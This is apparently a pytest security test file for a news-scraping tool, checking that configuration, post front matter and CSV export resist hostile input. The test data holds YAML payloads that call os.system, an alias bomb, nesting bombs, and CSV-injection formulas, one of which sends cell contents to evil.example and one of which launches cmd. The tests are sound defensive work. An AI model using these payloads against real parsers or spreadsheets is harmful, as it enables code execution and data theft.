def test_no_article_carries_what_steers_a_terminal_in_its_names(words) -> None:
    page = page_of(f"<p class=byline>作者：{words}</p>{SENTENCES}", title=f"一个标题在这里{words}")
    article = read(page)

    assert not set(f"{article.title}{article.authors}{article.publisher}") & CONTROLS


# --- config -------------------------------------------------------------------------------


def test_the_configuration_is_toml_and_nothing_else(tmp_path) -> None:
    file = tmp_path / "sources.yaml"
    file.write_text("a: !!python/object/apply:os.system ['touch pwned']\n", encoding="utf-8")

    with pytest.raises(settings.ConfigurationError, match="is not TOML"):
        settings.load(file, {})


def test_deep_values_are_a_mistake_in_the_configuration_and_no_bug(tmp_path) -> None:
    file = tmp_path / "copydesk.toml"
    file.write_text(f"a = {'[' * 20_000}", encoding="utf-8")

    with pytest.raises(settings.ConfigurationError, match="nested too deep"):
        settings.load(file, {})
    with pytest.raises(settings.ConfigurationError, match=r"fetch\.concurrency"):
        settings.load(None, {"COPYDESK_FETCH__CONCURRENCY": "[" * 20_000})


@pytest.mark.parametrize(
    "head",
    [
        'title: !!python/object/apply:os.system ["touch pwned"]\n',
        "title: !!python/name:os.system\n",
        "a0: &a0 [x]\n"
        + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 10))
        + "tags: *a9\n",
        f"title: {'[' * 300}\n",
    ],
    ids=["python", "name", "aliases", "deep"],
)
def test_no_head_of_a_post_executes_or_multiplies(head, elsewhere) -> None:
    post = f"---\n{head}date: 2022-01-01\n---\n<p>words</p>\n".encode()

    with pytest.raises(BadFrontMatter):
        in_time(lambda: read_post(post, "_posts/2022-01-01-x.md"), 2)

    assert list(elsewhere.iterdir()) == []


def test_no_option_is_a_selector_or_a_pattern() -> None:
    names = {name for parser in registry.PARSERS.values() for name in parser.options}
    names |= set(FetchPolicy.__slots__)

    assert not [name for name in names if re.search(r"selector|css|xpath|regex|pattern", name)]
    for key in ("selector", "pattern"):
        with pytest.raises(registry.OptionError, match="unknown key"):
            registry.source("any", "generic", {key: "div:has(div:has(div))"})


# --- csv-injection ------------------------------------------------------------------------

FORMULAS = payloads(
    "csv-injection",
    "=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
)  # fmt: skip


@pytest.mark.parametrize("words", FORMULAS)
def test_a_spreadsheet_runs_nothing_of_an_export(words, tmp_path) -> None:
    file = tmp_path / "out.csv"
    article = make_article(title=words, publisher=words, authors=(words,), text=words, url=words)

    write_csv([article], file)

    with file.open(encoding="utf-8-sig", newline="") as lines:
        header, cells = csv.reader(lines)
    row = dict(zip(header, cells, strict=True))
    assert tuple(header) == ARTICLE_KEYS
    assert row["title"] == row["publisher"] == row["text"] == row["url"] == f"'{words}"
    assert json.loads(row["authors"]) == [words]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]


@pytest.mark.parametrize("words", FORMULAS)
def test_the_csv_of_a_query_is_the_exact_data(words) -> None:
    answer = Answer(Result(columns=("title",), types=("VARCHAR",), rows=[(words,)]))

    assert list(csv.reader(io.StringIO(answer.as_csv(), newline=""))) == [["title"], [words]]


def test_the_help_says_which_csv_is_for_spreadsheets() -> None:
    assert "spreadsheet" in (cli.asking.query.help or "")
    assert "export" in (cli.asking.query.help or "")
    assert "spreadsheets" in (write_csv.__doc__ or "")


# --- the corpus -----------------------------------------------------------------------------

COVERED = {
    "xml-laughs": test_an_entity_bomb_is_refused_unread,
    "xml-xxe_http": test_no_feed_opens_a_file_or_a_connection,
    "xml-deep": test_a_deep_feed_ends_in_words,
    "xml-notwf": test_items_of_a_broken_feed_are_still_read,
    "xml-html": test_html_instead_of_a_feed_is_refused_by_name,
    "xml-badlinks": test_hostile_links_are_refused_one_by_one,
    "html-deepfont": test_no_page_costs_more_than_seconds_or_brings_a_control_in,
    "html-hugeattr": test_no_page_costs_more_than_seconds_or_brings_a_control_in,
    "html-entities": test_no_page_costs_more_than_seconds_or_brings_a_control_in,
    "html-script": test_no_page_costs_more_than_seconds_or_brings_a_control_in,
    "path-16": test_ids_that_a_disk_could_confuse_get_files_of_their_own,
    "path-symlink": test_no_export_writes_through_a_link,
    "sql-06": test_a_file_name_is_no_sql,
    "sql-07": test_a_limit_is_a_number_before_anything_happens,
    "sql-nul": test_nul_never_reaches_the_warehouse,
    "cfg-01": test_the_configuration_is_toml_and_nothing_else,
}
"""Cases that name a situation; those that are a payload go through the tests themselves."""

BY_PAYLOAD = {
    "html-sanitize", "yaml", "path-traversal", "sql", "log-injection", "csv-injection",
}  # fmt: skip

NOT_APPLICABLE = {
    "xml-sitemap-index-loop": "copydesk reads no sitemap: sources have lists and feeds",
    "xml-sitemap-huge": "copydesk reads no sitemap; a body is capped at max_body_bytes",
    "cfg-02": "TOML has no aliases; those of a post's head: test_no_head_of_a_post_executes_...",
    "cfg-03": "no option is a selector: test_no_option_is_a_selector_or_a_pattern",
    "cfg-04": "no option is a pattern; our own patterns: test_no_pattern_of_ours_backtracks",
}

ELSEWHERE = FETCHING | {
    "ssrf",  # tests/fetch/test_guard.py
    "prefect",  # tests/flows/test_serve.py
}


@pytest.mark.skipif(not CORPUS.is_file(), reason="../shared/corpus is not there; our own cases are")
def test_no_case_of_the_corpus_is_without_a_test() -> None:
    ours = [case for case in cases_of_the_corpus() if case["category"] not in ELSEWHERE]
    named = {case["id"] for case in ours if case["category"] not in BY_PAYLOAD}

    assert named <= set(COVERED) | set(NOT_APPLICABLE)
    assert set(COVERED) | set(NOT_APPLICABLE) <= {case["id"] for case in ours}
    assert {case["category"] for case in ours} >= BY_PAYLOAD
    assert len(ours) > 50
